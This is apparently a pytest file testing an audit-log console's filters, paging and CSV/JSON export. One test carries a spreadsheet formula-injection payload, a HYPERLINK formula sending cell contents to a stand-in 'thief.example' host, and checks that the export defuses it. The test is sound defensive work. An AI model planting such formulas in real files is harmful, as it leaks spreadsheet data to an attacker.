"""The audit log in the console: filtered, paged, and downloaded as a file without spreadsheet formulas."""

import csv
import io
import json
import re
from datetime import timedelta
from html import unescape

import pytest
from sqlalchemy import delete

from app.actions.audit.actor import OPERATOR, Actor
from app.actions.audit.record import record
from app.models import AuditEvent
from app.web.console.audit import ALL_COLUMNS
from tests.core import START
from tests.management.face import Face
from tests.web.visitor import Visitor

pytestmark = pytest.mark.both_databases

CREATED, DELETED = "ann created the role role_1", "The command line deleted the role role_2"
ANN = Actor(type="user", id="usr_ann", name="ann", address="192.0.2.1", request_id="r-1")


@pytest.fixture(autouse=True)
def _nothing_so_far(face: Face, operator: Visitor) -> None:
    face.core.database.execute("DELETE FROM audit_event")


TAG = re.compile("<[^>]*>")


def record_event(face: Face, number: int = 1, actor: Actor = ANN, **said: str) -> None:
    """Record an event a second after the previous one."""
    named = {"action": "role.update", "target_type": "role", "target": "role_1"} | said
    with face.core.store.transaction() as session:
        for _ in range(number):
            face.core.clock.advance(seconds=1)
            record(session, actor, named["action"], named["target_type"], named["target"], face.core.clock())


def rows(page: str) -> list[str]:
    """Return what happened, by the events of the list."""
    return [TAG.sub("", cell).strip() for cell in re.findall(r'<td class="wide">(.*?)</td>', page, re.DOTALL)]


def test_an_empty_log_and_an_empty_search_say_so(operator: Visitor) -> None:
    assert "There is no event yet" in operator.get("/console/audit").text
    assert "No event matches" in operator.get("/console/audit?actor=nobody").text


def test_each_filter_narrows_and_stays_in_its_field(face: Face, operator: Visitor) -> None:
    record_event(face, action="role.create")
    record_event(face, action="role.delete", actor=OPERATOR, target="role_2")
    for query, found in (
        ("", [DELETED, CREATED]),
        ("actor=usr_ann", [CREATED]),
        ("action=role.delete", [DELETED]),
        ("target=role_2", [DELETED]),
        ("target=role_1&actor=cli", []),
    ):
        page = operator.get(f"/console/audit?{query}").text
        assert rows(page) == found, query
        assert all(f'value="{part.split("=")[1]}"' in page for part in query.split("&") if part)


def test_since_is_inclusive_and_until_is_not(face: Face, operator: Visitor) -> None:
    face.core.clock.now = START.replace(microsecond=0)
    record_event(face, action="role.create")
    record_event(face, action="role.delete", actor=OPERATOR, target="role_2")
    at = face.core.clock().strftime("%Y-%m-%dT%H:%M:%S")
    assert rows(operator.get(f"/console/audit?since={at}").text) == [DELETED]
    assert rows(operator.get(f"/console/audit?until={at}").text) == [CREATED]
    assert rows(operator.get(f"/console/audit?since={at}Z").text) == [DELETED]


def test_an_invalid_time_is_refused_at_its_field(operator: Visitor) -> None:
    for path in ("/console/audit?since=yesterday", "/console/audit?since=0001-01-01T00:00%2B23:00"):
        answer = operator.get(path)
        assert answer.status_code == 422 and 'id="since-help">must be a time in UTC' in answer.text
    assert operator.get("/console/audit/export.csv?until=later").status_code == 422


def test_older_events_come_by_page_with_the_same_filter(face: Face, operator: Visitor) -> None:
    record_event(face, 60)
    record_event(face, actor=OPERATOR)
    first = operator.get("/console/audit?actor=usr_ann").text
    older = re.search(r'href="([^"]+)" rel="next"[^>]*>Older', first)
    assert older is not None and len(rows(first)) == 50
    second = operator.get(unescape(older[1])).text
    assert len(rows(second)) == 10 and "Older" not in second


@pytest.mark.asvs("3.2.1")
def test_a_file_holds_what_the_filter_finds(face: Face, operator: Visitor) -> None:
    record_event(face, 60)
    record_event(face, actor=OPERATOR)
    answer = operator.get("/console/audit/export.csv?actor=usr_ann")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert re.fullmatch(r'attachment; filename="latchkey-audit-\w+\.csv"', answer.headers["Content-Disposition"])
    head, *body = csv.reader(io.StringIO(answer.text))
    assert tuple(head) == ALL_COLUMNS and len(body) == 60 and {row[3] for row in body} == {"usr_ann"}
    kept = operator.get("/console/audit/export.json?actor=usr_ann")
    assert kept.headers["Content-Disposition"].endswith('.json"') and kept.json is not None
    assert kept.json["cut"] is None and len(kept.json["events"]) == 60
    newest = kept.json["events"][0]
    assert (newest["actor"], newest["address"], newest["request_id"]) == ("usr_ann", "192.0.2.1", "r-1")
    assert newest["at"] == (face.core.clock() - timedelta(seconds=1)).isoformat()


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(face: Face, operator: Visitor, begin: str) -> None:
    formula = f'{begin}HYPERLINK("https://thief.example?"&A1,"x")'
    record_event(face, actor=Actor(type="user", id="usr_x", name=formula), target=formula)
    answer = operator.get("/console/audit/export.csv").get_data(as_text=True)
    _, row = csv.reader(io.StringIO(answer, newline=""))
    assert row[4] == row[7] == f"'{formula}"
    kept = json.loads(operator.get("/console/audit/export.json").text)
    assert kept["events"][0]["target"] == formula


def test_a_file_is_cut_and_says_so(face: Face, operator: Visitor) -> None:
    record_event(face, 10_001)
    table = list(csv.reader(io.StringIO(operator.get("/console/audit/export.csv").text)))
    assert len(table) == 10_002 and table[-1][5].startswith("cut: the newest 10000 events, back to 20")
    kept = json.loads(operator.get("/console/audit/export.json").text)
    assert len(kept["events"]) == 10_000 and kept["cut"].startswith("cut: the newest 10000")
    with face.core.store.transaction() as session:
        oldest = session.execute(delete(AuditEvent).where(AuditEvent.id == int(table[-2][0])).returning(AuditEvent.id))
        assert len(oldest.all()) == 1
    assert json.loads(operator.get("/console/audit/export.json").text)["cut"] is None
